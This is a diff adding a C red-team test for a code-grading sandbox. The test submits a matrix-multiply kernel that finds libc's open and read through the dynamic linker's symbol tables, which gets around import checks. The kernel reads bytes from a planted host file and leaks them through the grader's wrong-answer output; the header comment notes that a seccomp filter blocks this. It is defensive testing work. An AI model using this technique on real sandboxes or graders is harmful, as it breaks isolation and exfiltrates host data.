@@ -1,0 +1,81 @@
+/* Red team, issue 15 class 4b: read a host file through libc functions reached by pointer.
+ *
+ * Same walk as rd1_libc_shell.c, for "open" and "read": the kernel opens
+ * /tmp/kernopt-redteam-sentinel (a world-readable file the test plants on the host) and puts its
+ * first 8 bytes into c[0], so the wrong-answer reason prints them as a double. When the open fails
+ * it writes c[0] = 777 instead (wrong_answer, "got 777": the file was out of reach).
+ * Without a system-call filter, under --sandbox local: the reason carries the file's bytes.
+ * Defence: the seccomp filter refuses open (EACCES); docker does not show the host's /tmp.
+ * Measured against 358822f, local: the reason printed the sentinel file's first 8 bytes.
+ */
+#include <elf.h>
+#include <link.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <string.h>
+
+static int streq_(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
+static uintptr_t fix(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }
+
+static ElfW(Dyn) *image_of(const void *inside, uintptr_t *bias) {
+    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
+    for (int i = 0; i < 4096; i++, p -= 4096) {
+        if (memcmp((const void *)p, "\177ELF", 4) != 0) continue;
+        const ElfW(Ehdr) *eh = (const void *)p;
+        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
+        uintptr_t b = 0;
+        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_LOAD && ph[k].p_offset == 0) b = p - ph[k].p_vaddr;
+        *bias = b;
+        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_DYNAMIC) return (ElfW(Dyn) *)(b + ph[k].p_vaddr);
+        return 0;
+    }
+    return 0;
+}
+
+/* a function defined by any loaded object, found through the dynamic linker's list */
+static void *find_function(const char *name) {
+    uintptr_t bias;
+    ElfW(Dyn) *dyn = image_of((const void *)&find_function, &bias);
+    struct r_debug *rd = 0;
+    for (ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; d++) if (d->d_tag == DT_DEBUG) rd = (struct r_debug *)d->d_un.d_ptr;
+    for (struct link_map *lm = rd ? rd->r_map : 0; lm; lm = lm->l_next) {
+        const ElfW(Sym) *sym = 0; const char *str = 0;
+        for (ElfW(Dyn) *d = lm->l_ld; d && d->d_tag != DT_NULL; d++) {
+            if (d->d_tag == DT_SYMTAB) sym = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
+            else if (d->d_tag == DT_STRTAB) str = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
+        }
+        if (!sym || !str || (const void *)str <= (const void *)sym) continue;
+        size_t nsym = (size_t)((const char *)str - (const char *)sym) / sizeof *sym;
+        for (size_t i = 1; i < nsym; i++)
+            if (sym[i].st_shndx != SHN_UNDEF && ELF64_ST_TYPE(sym[i].st_info) == STT_FUNC && streq_(str + sym[i].st_name, name))
+                return (void *)(lm->l_addr + sym[i].st_value);
+    }
+    return 0;
+}
+
+
+static void naive(long n, const double *a, const double *b, double *c) {
+    for (long i = 0; i < n; i++)
+        for (long j = 0; j < n; j++) {
+            double s = 0.0;
+            for (long k = 0; k < n; k++) s += a[i * n + k] * b[k * n + j];
+            c[i * n + j] = s;
+        }
+}
+
+typedef int (*open_fn)(const char *, int, ...);
+typedef long (*read_fn)(int, void *, size_t);
+
+void gemm(long n, const double *restrict a, const double *restrict b, double *restrict c) {
+    naive(n, a, b, c);
+    if (n <= 0) return;
+    open_fn op = (open_fn)find_function("open");
+    read_fn rd = (read_fn)find_function("read");
+    int fd = op ? op("/tmp/kernopt-redteam-sentinel", 0) : -1;
+    double leak = 777.0;
+    if (fd >= 0 && rd) {
+        unsigned char b8[8] = {0};
+        if (rd(fd, b8, 8) == 8) memcpy(&leak, b8, 8);
+    }
+    c[0] = leak;
+}
